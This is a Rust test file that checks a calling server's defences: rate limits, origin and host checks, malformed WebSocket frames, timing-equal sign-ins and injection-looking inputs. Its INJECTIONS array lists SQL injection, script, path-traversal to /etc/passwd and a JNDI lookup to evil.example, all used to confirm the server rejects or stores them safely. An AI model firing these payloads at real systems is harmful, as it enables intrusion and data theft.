//! The server among strangers: the security cases of docs/security.md, each by its number.

use std::{net::SocketAddr, time::Duration};

use carillon_protocol::{
    Answer, CallType, ChannelName, ChatType, Done, Invitation, Refusal, RefusalCode, Request, close,
};
use reqwest::StatusCode;
use serde_json::{Value, json};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
};
use tokio_tungstenite::{
    connect_async,
    tungstenite::{Error, client::IntoClientRequest as _},
};

use crate::support::{Device, House, PASSWORD, accept, credentials, invite, post, registration};

/// What people have typed into the text fields of other programs.
const INJECTIONS: [&str; 14] = [
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "') UNION SELECT password_hash FROM users --",
    "$1",
    "%",
    "_",
    "\\",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "a\u{0}b",
    "../../etc/passwd",
    "\u{202e}gnp.exe",
];

#[tokio::test]
async fn s10_a_failed_sign_in_that_names_a_victim_changes_nothing_for_the_victim() {
    let house = House::open().await;
    let mut ada = house.newcomer("ada").await;
    let mallory = house.register("mallory").await;

    for user in ["ada", "mallory"] {
        let mut body = credentials(user, "not the password", "laptop");
        body["device"] = json!(ada.signed_in.device);
        assert_eq!(post(&house.url(), "sign-in", body).await.0, StatusCode::UNAUTHORIZED);
    }
    let client = reqwest::Client::new();
    for token in ["", "nonsense", &format!("{}x", ada.signed_in.token), &mallory.token] {
        client.post(format!("{}/v1/sign-out", house.url())).bearer_auth(token).send().await.unwrap();
    }

    ada.has_heard_nothing().await;
    Device::link(&house.url(), ada.signed_in.clone()).await;
}

#[tokio::test]
async fn s12_neither_metrics_nor_anything_of_the_operators_is_on_the_public_socket() {
    let house = House::with(|config| config.metrics_listen = Some(([127, 0, 0, 1], 0).into())).await;
    let client = reqwest::Client::new();

    for path in ["metrics", "admin", "v1/admin", "admin/user", "debug", "status", "admin.sock", "carillon.db"] {
        for request in [client.get(format!("{}/{path}", house.url())), client.post(format!("{}/{path}", house.url()))] {
            assert_eq!(request.send().await.unwrap().status(), StatusCode::NOT_FOUND, "{path}");
        }
    }
    let metrics = format!("http://{}", house.server.metrics.unwrap());
    for path in ["v1/link", "v1/sign-in", "version"] {
        assert_eq!(client.get(format!("{metrics}/{path}")).send().await.unwrap().status(), StatusCode::NOT_FOUND);
    }
}

#[tokio::test]
async fn s17_an_oversize_frame_is_cut_off_before_it_is_there() {
    let house = House::open().await;
    let mut ada = house.newcomer("ada").await;

    ada.say(&"x".repeat(1024 * 1024)).await;

    assert_eq!(ada.is_dismissed().await.0, close::FRAME_TOO_LARGE);
}

#[tokio::test]
async fn s17_compression_is_never_agreed_to_so_there_are_no_bombs() {
    let house = House::open().await;
    let token = house.register("ada").await.token;
    let mut request = format!("ws://{}/v1/link", house.server.addr).into_client_request().unwrap();
    let headers = request.headers_mut();
    headers.insert("authorization", format!("Bearer {token}").parse().unwrap());
    headers.insert("sec-websocket-extensions", "permessage-deflate; client_max_window_bits".parse().unwrap());

    let (_socket, response) = connect_async(request).await.unwrap();

    assert_eq!(response.headers().get("sec-websocket-extensions"), None);
    let heard = raw_frame(&house, &token, 0b1100_0001, b"{}").await;
    assert!(heard.is_empty() || heard[0] == 0x88, "a compressed frame is no frame: {heard:?}");
}

#[tokio::test]
async fn s17_bad_utf8_and_deep_json_end_their_own_link_only() {
    let house = House::open().await;
    let mut ben = house.newcomer("ben").await;
    let token = house.register("ada").await.token;
    let [high, low] = close::MALFORMED.to_be_bytes();

    let heard = raw_frame(&house, &token, 0x81, &[b'"', 0xff, 0xfe, b'"']).await;
    assert!(heard.windows(2).any(|bytes| bytes == [high, low]), "{heard:?}");
    let mut carl = house.newcomer("carl").await;
    carl.say(&"[".repeat(60_000)).await;
    assert_eq!(carl.is_dismissed().await.0, close::MALFORMED);
    let mut dora = house.newcomer("dora").await;
    let deep = format!(r#"{{"t":"request","op_id":{},"body":{{}}}}"#, "[".repeat(30_000) + &"]".repeat(30_000));
    dora.say(&deep).await;
    assert_eq!(dora.is_dismissed().await.0, close::MALFORMED);

    ben.has_heard_nothing().await;
}

#[tokio::test]
async fn s17_a_handshake_that_dribbles_is_ended() {
    let house = House::with(|config| config.patience.head = Duration::from_millis(100)).await;
    let mut socket = TcpStream::connect(house.server.addr).await.unwrap();

    let mut heard = Vec::new();
    socket.write_all(b"GET /v1/link HTTP/1.1\r\nHost: local").await.unwrap();
    socket.read_to_end(&mut heard).await.ok();

    let said = String::from_utf8_lossy(&heard);
    assert!(heard.is_empty() || said.starts_with("HTTP/1.1 408"), "{said}");
}

#[tokio::test]
async fn s17_half_open_connections_are_capped_and_leave_room_for_whoever_speaks() {
    let house = House::with(|config| {
        config.limits.half_open = 8;
        config.patience.head = Duration::from_millis(500);
    })
    .await;
    let mut silent = Vec::new();
    for _ in 0..8 {
        silent.push(TcpStream::connect(house.server.addr).await.unwrap());
    }

    let mut ninth = TcpStream::connect(house.server.addr).await.unwrap();
    let mut heard = Vec::new();
    ninth.read_to_end(&mut heard).await.ok();
    assert_eq!(heard, b"", "turned away without a word");
    for socket in &mut silent {
        socket.read_to_end(&mut heard).await.ok();
    }

    let version = reqwest::get(format!("{}/version", house.url())).await.unwrap();
    assert_eq!(version.status(), StatusCode::OK);
}

#[tokio::test]
async fn s18_an_address_may_ask_so_often() {
    let house = House::with(|config| {
        config.limits.http_requests_per_minute_and_address = 3;
        config.trust_forwarded_for = true;
    })
    .await;
    let ask = async |from: &str| {
        let request = reqwest::Client::new().get(format!("{}/version", house.url())).header("x-forwarded-for", from);
        request.send().await.unwrap().status()
    };

    for _ in 0..3 {
        assert_eq!(ask("2001:db8::1").await, StatusCode::OK);
    }

    assert_eq!(ask("2001:db8::2").await, StatusCode::TOO_MANY_REQUESTS, "the same /64");
    assert_eq!(ask("2001:db8:0:1::1").await, StatusCode::OK, "another one");
    let livez = reqwest::get(format!("{}/livez", house.url())).await.unwrap();
    assert_eq!(livez.status(), StatusCode::OK, "who looks whether it lives is never turned away");
}

#[tokio::test]
async fn s18_a_device_gets_no_new_allowance_by_a_new_link_and_a_user_none_by_a_new_device() {
    let house = House::with(|config| {
        config.limits.requests_per_minute = 5;
        config.limits.requests_per_minute_and_user = 8;
    })
    .await;
    let mut ada = house.newcomer("ada").await;
    for _ in 0..5 {
        ada.does(Request::RecentCalls { limit: 1 }).await;
    }
    let mut ada = ada.relink().await;
    assert_eq!(ada.is_refused(Request::RecentCalls { limit: 1 }).await, RefusalCode::RateLimited);

    let mut phone = house.another("ada", "phone").await;
    for _ in 0..3 {
        phone.does(Request::RecentCalls { limit: 1 }).await;
    }

    assert_eq!(phone.is_refused(Request::RecentCalls { limit: 1 }).await, RefusalCode::RateLimited);
}

#[tokio::test]
async fn s18_a_device_may_open_so_many_links() {
    let house = House::with(|config| config.limits.links_per_minute = 2).await;
    let ada = house.newcomer("ada").await.relink().await;

    let mut request = format!("ws://{}/v1/link", house.server.addr).into_client_request().unwrap();
    let token = format!("Bearer {}", ada.signed_in.token);
    request.headers_mut().insert("authorization", token.parse().unwrap());
    let Err(Error::Http(refusal)) = connect_async(request).await else { panic!("let in") };

    assert_eq!(refusal.status(), StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test]
async fn s18_nobody_makes_the_same_person_ring_all_the_time() {
    let house = House::with(|config| config.limits.invites_per_minute_to_one = 2).await;
    let (mut mallory, mut ben) = (house.newcomer("mallory").await, house.newcomer("ben").await);
    for _ in 0..2 {
        let call = mallory.invites("ben").await;
        ben.rings().await;
        mallory.does(Request::HangUp { call }).await;
    }

    assert_eq!(mallory.is_refused(invite("ben")).await, RefusalCode::RateLimited);
    house.register("carl").await;
    mallory.invites("carl").await;
}

#[tokio::test]
async fn s18_many_accounts_together_do_not_make_one_victim_ring_all_the_time() {
    let house = House::with(|config| config.limits.invites_per_minute_of_one = 3).await;
    house.register("victim").await;
    for number in 0..3 {
        let mut attacker = house.newcomer(&format!("attacker-{number}")).await;
        let call = attacker.invites("victim").await;
        attacker.does(Request::HangUp { call }).await;
    }

    let mut another = house.newcomer("attacker-3").await;

    assert_eq!(another.is_refused(invite("victim")).await, RefusalCode::RateLimited);
}

#[tokio::test]
async fn s18_a_caller_rings_so_many_people_a_minute_and_so_many_at_once() {
    let house = House::with(|config| {
        config.limits.invites_per_minute = 2;
        config.limits.ringing_per_caller = 3;
    })
    .await;
    let mut mallory = house.newcomer("mallory").await;
    for user in ["ben", "carl", "dora"] {
        house.register(user).await;
    }

    let four: Vec<_> = ["ben", "carl", "dora", "ella"].iter().map(|user| user.parse().unwrap()).collect();
    let crowd = Request::Invite(Invitation {
        call_type: CallType::Voice,
        chat_type: ChatType::SingleChat,
        to: four,
        message: String::new(),
        channel: ChannelName::new("crowd").unwrap(),
        access_token: None,
        group_id: None,
        group_name: None,
        ring_ms: None,
    });
    assert_eq!(mallory.is_refused(crowd).await, RefusalCode::RateLimited, "too many at once");

    for user in ["ben", "carl"] {
        let call = mallory.invites(user).await;
        mallory.does(Request::HangUp { call }).await;
    }
    assert_eq!(mallory.is_refused(invite("dora")).await, RefusalCode::RateLimited, "too many in a minute");
}

#[tokio::test]
async fn s18_a_repeated_invitation_is_answered_as_before_and_counts_once() {
    let house = House::with(|config| config.limits.invites_per_minute_to_one = 1).await;
    let mut ada = house.newcomer("ada").await;
    house.register("ben").await;
    let (op, request) = (crate::support::new_op(), invite("ben"));

    let first = ada.ask_as(op, request.clone()).await;
    let second = ada.ask_as(op, request).await;

    assert!(matches!(first, Answer::Ok(Done::Calling { .. })), "{first:?}");
    assert_eq!(first, second);
}

#[tokio::test]
async fn s18_a_link_that_was_signed_out_cannot_be_resumed() {
    let house = House::open().await;
    let mut ada = house.newcomer("ada").await;
    let url = format!("{}/v1/sign-out", house.url());
    reqwest::Client::new().post(url).bearer_auth(&ada.signed_in.token).send().await.unwrap();
    ada.is_dismissed().await;

    let mut request = format!("ws://{}/v1/link", house.server.addr).into_client_request().unwrap();
    let token = format!("Bearer {}", ada.signed_in.token);
    request.headers_mut().insert("authorization", token.parse().unwrap());

    let Err(Error::Http(refusal)) = connect_async(request).await else { panic!("let in") };
    assert_eq!(refusal.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn s19_a_page_of_another_origin_reaches_neither_rest_nor_link() {
    let house = House::with(|config| config.allowed_origins = vec!["https://calls.example".into()]).await;
    let client = reqwest::Client::new();
    let from = async |origin: &str, path: &str| {
        let request = client.post(format!("{}/v1/{path}", house.url())).header("origin", origin);
        request.json(&credentials("ada", PASSWORD, "laptop")).send().await.unwrap()
    };

    for origin in ["https://evil.example", "null", "https://calls.example.evil.example", "http://calls.example"] {
        for path in ["sign-in", "register", "sign-out"] {
            assert_eq!(from(origin, path).await.status(), StatusCode::FORBIDDEN, "{origin} {path}");
        }
        let link = client.get(format!("{}/v1/link", house.url())).header("origin", origin).send().await.unwrap();
        assert_eq!(link.status(), StatusCode::FORBIDDEN, "{origin}");
    }
    assert_eq!(
        from("https://calls.example", "sign-in").await.status(),
        StatusCode::UNAUTHORIZED,
        "asked, and answered"
    );
}

#[tokio::test]
async fn s19_no_page_is_shown_an_answer_by_cors() {
    let house = House::with(|config| config.allowed_origins = vec!["https://calls.example".into()]).await;
    let client = reqwest::Client::new();
    for origin in ["https://evil.example", "https://calls.example"] {
        let url = format!("{}/v1/sign-in", house.url());
        let preflight = client.request(reqwest::Method::OPTIONS, &url).header("origin", origin);
        let preflight = preflight.header("access-control-request-method", "POST").send().await.unwrap();
        let version = client.get(format!("{}/version", house.url())).header("origin", origin).send().await.unwrap();

        assert!(preflight.status().is_client_error(), "{origin}");
        for answer in [preflight, version] {
            let cors = answer.headers().keys().any(|name| name.as_str().starts_with("access-control"));
            assert!(!cors, "{origin}: {:?}", answer.headers());
        }
    }
}

#[tokio::test]
async fn s19_a_name_that_is_not_this_servers_is_not_answered() {
    let house = House::with(|config| config.public_hosts = vec!["calls.example.org".into()]).await;
    let ask = async |host: &str| {
        let request = reqwest::Client::new().get(format!("{}/version", house.url())).header("host", host);
        request.send().await.unwrap()
    };

    for host in ["calls.example.org", "calls.example.org:8443", "localhost:4747", "127.0.0.1"] {
        assert_eq!(ask(host).await.status(), StatusCode::OK, "{host}");
    }
    let rebound = ask("evil.example").await;
    assert_eq!(rebound.status(), StatusCode::MISDIRECTED_REQUEST);
    let body: Value = rebound.json().await.unwrap();
    assert!(body["detail"].as_str().unwrap().contains("public_hosts"), "the operator is told what to do: {body}");
    let mut link = "ws://evil.example/v1/link".into_client_request().unwrap();
    link.headers_mut().insert("host", "evil.example".parse().unwrap());
    let stream = TcpStream::connect(house.server.addr).await.unwrap();
    let Err(Error::Http(refusal)) = tokio_tungstenite::client_async(link, stream).await else { panic!("let in") };
    assert_eq!(refusal.status(), StatusCode::MISDIRECTED_REQUEST);
}

#[tokio::test]
async fn s21_what_looks_like_sql_is_a_text_in_every_field_over_http() {
    let house = House::open().await;
    let invite = house.server.invite.clone().unwrap();
    for text in INJECTIONS {
        for field in ["invite", "user", "display_name", "password", "device_name"] {
            let mut body = registration("2222-2222-2222-2222", "ada");
            body[field] = json!(text);
            let (status, answer) = post(&house.url(), "register", body).await;
            assert!(status.is_client_error(), "{field} {text:?}: {status} {answer}");
        }
        for field in ["user", "password", "device_name", "device"] {
            let mut body = credentials("ben", PASSWORD, "laptop");
            body[field] = json!(text);
            let (status, answer) = post(&house.url(), "sign-in", body).await;
            assert!(status.is_client_error(), "{field} {text:?}: {status} {answer}");
        }
    }

    let (status, _) = post(&house.url(), "register", registration(&invite, "ada")).await;
    assert_eq!(status, StatusCode::OK, "the tables are there, and the invite is still good");
}

#[tokio::test]
async fn s21_names_that_look_like_sql_are_kept_and_found_as_they_are() {
    let house = House::open().await;
    let mut ada = house.newcomer("ada").await;
    let names: Vec<&str> = INJECTIONS.into_iter().filter(|text| !text.contains(['\u{0}', '\u{202e}'])).collect();
    for (number, name) in names.iter().enumerate() {
        let invite = house.server.mint_invites(1).await.unwrap().remove(0);
        let mut body = registration(&invite, &format!("user-{number}"));
        body["display_name"] = json!(name);
        body["device_name"] = json!(name);
        let (status, answer) = post(&house.url(), "register", body).await;
        assert_eq!((status, answer["account"]["display_name"].as_str()), (StatusCode::OK, Some(*name)));
    }

    for (number, name) in names.iter().enumerate() {
        let Done::People { people } = ada.does(Request::SearchUsers { query: (*name).into() }).await else {
            panic!("no people")
        };
        assert!(people.iter().any(|person| person.display_name == *name), "{name:?} finds itself");
        let strangers =
            people.iter().filter(|person| !person.display_name.to_lowercase().contains(&name.to_lowercase()));
        let strangers: Vec<_> = strangers.filter(|person| !person.user.as_str().contains(*name)).collect();
        assert_eq!(strangers, Vec::<&carillon_protocol::Person>::new(), "{name:?}, number {number}, finds nobody else");
    }
}

#[tokio::test]
async fn s21_what_looks_like_sql_is_a_text_in_every_field_of_a_link() {
    let house = House::open().await;
    let (mut ada, mut ben) = (house.newcomer("ada").await, house.newcomer("ben").await);
    for text in INJECTIONS {
        ada.ask(Request::SearchUsers { query: text.into() }).await;
        let message = Invitation {
            call_type: CallType::Voice,
            chat_type: ChatType::SingleChat,
            to: vec!["ben".parse().unwrap()],
            message: text.into(),
            channel: ChannelName::new(text).unwrap_or_else(|_| ChannelName::new("plain").unwrap()),
            access_token: Some(text.into()),
            group_id: None,
            group_name: None,
            ring_ms: None,
        };
        match ada.ask(Request::Invite(message)).await {
            Answer::Ok(Done::Calling { call, .. }) => {
                assert_eq!(ben.rings().await.message, text);
                ben.does(accept(call)).await;
                ada.does(Request::Media { call, signal: crate::support::candidate(text) }).await;
                ada.does(Request::HangUp { call }).await;
                until_logged(&mut ada).await;
                until_logged(&mut ben).await;
            }
            Answer::Refused(Refusal { code: RefusalCode::Invalid, .. }) => {}
            other => panic!("{text:?}: {other:?}"),
        }
    }
    ada.does(Request::RecentCalls { limit: 50 }).await;
}

#[tokio::test]
async fn s21_a_name_that_looks_like_another_is_no_name() {
    let house = House::open().await;
    let invite = house.server.invite.clone().unwrap();
    for look_alike in
        ["\u{430}da", "ada\u{200b}", "\u{ff41}da", "Ada", "ADA", "ada ", "a\u{301}da", "ad\u{e4}", "ada\u{2060}"]
    {
        let (status, answer) = post(&house.url(), "register", registration(&invite, look_alike)).await;
        assert_eq!(
            (status, answer["code"].as_str()),
            (StatusCode::UNPROCESSABLE_ENTITY, Some("bad_name")),
            "{look_alike:?}"
        );
    }
}

#[tokio::test]
async fn s22_an_unknown_user_costs_as_many_hashes_as_a_wrong_password() {
    let house = House::with(|config| {
        config.metrics_listen = Some(([127, 0, 0, 1], 0).into());
        config.limits.sign_ins_per_minute = 100;
    })
    .await;
    house.register("ada").await;
    let long = "x".repeat(2000);

    for password in ["not the password", "", &long] {
        let before = hashes(&house).await;
        let wrong = post(&house.url(), "sign-in", credentials("ada", password, "laptop")).await;
        let between = hashes(&house).await;
        let unknown = post(&house.url(), "sign-in", credentials("nobody", password, "laptop")).await;
        let after = hashes(&house).await;

        assert_eq!(between - before, after - between, "the same work for {password:.20?}");
        assert_eq!(wrong, unknown, "and the same words");
    }
}

#[tokio::test]
async fn s22_a_crowd_of_sign_ins_is_served_a_few_at_a_time_and_nobody_waits_for_ever() {
    let house = House::with(|config| {
        config.metrics_listen = Some(([127, 0, 0, 1], 0).into());
        config.limits.sign_ins_per_minute = 1000;
    })
    .await;
    let url = house.url();

    let crowd = (0..60).map(|number| post(&url, "sign-in", credentials(&format!("user-{number}"), PASSWORD, "laptop")));
    let answers = futures_util::future::join_all(crowd).await;

    let count = |wanted| answers.iter().filter(|(status, _)| *status == wanted).count();
    let (refused, turned_away) = (count(StatusCode::UNAUTHORIZED), count(StatusCode::SERVICE_UNAVAILABLE));
    assert_eq!(refused + turned_away, 60);
    assert!(refused >= 32, "{refused}");
    assert!(metric(&house, "carillon_password_hashes_at_once_max").await <= 2);
}

async fn until_logged(device: &mut Device) {
    while !matches!(device.hears().await, carillon_protocol::Signal::CallLogged(_)) {}
}

async fn hashes(house: &House) -> u64 {
    metric(house, "carillon_password_hashes_total").await
}

async fn metric(house: &House, name: &str) -> u64 {
    let page =
        reqwest::get(format!("http://{}/metrics", house.server.metrics.unwrap())).await.unwrap().text().await.unwrap();
    let line = page.lines().find_map(|line| line.strip_prefix(name)?.strip_prefix(' ')).unwrap();
    line.parse().unwrap()
}

/// What is heard after the greeting by a device that sends one frame with a first byte of its own.
async fn raw_frame(house: &House, token: &str, first: u8, payload: &[u8]) -> Vec<u8> {
    let mut socket = upgraded(house.server.addr, token).await;
    let hello = br#"{"t":"hello"}"#;
    for (first, payload) in [(0x81, hello.as_slice()), (first, payload)] {
        let length = 0x80 | u8::try_from(payload.len()).unwrap();
        socket.write_all(&[&[first, length, 0, 0, 0, 0], payload].concat()).await.unwrap();
    }
    let mut heard = Vec::new();
    socket.read_to_end(&mut heard).await.ok();
    let greeting = usize::from(u16::from_be_bytes([heard[2], heard[3]])) + 4;
    heard.split_off(greeting)
}

async fn upgraded(server: SocketAddr, token: &str) -> TcpStream {
    let mut socket = TcpStream::connect(server).await.unwrap();
    let head = format!(
        "GET /v1/link HTTP/1.1\r\nHost: {server}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nAuthorization: Bearer {token}\r\n\r\n"
    );
    socket.write_all(head.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    while !answer.ends_with(b"\r\n\r\n") {
        answer.push(socket.read_u8().await.unwrap());
    }
    socket
}
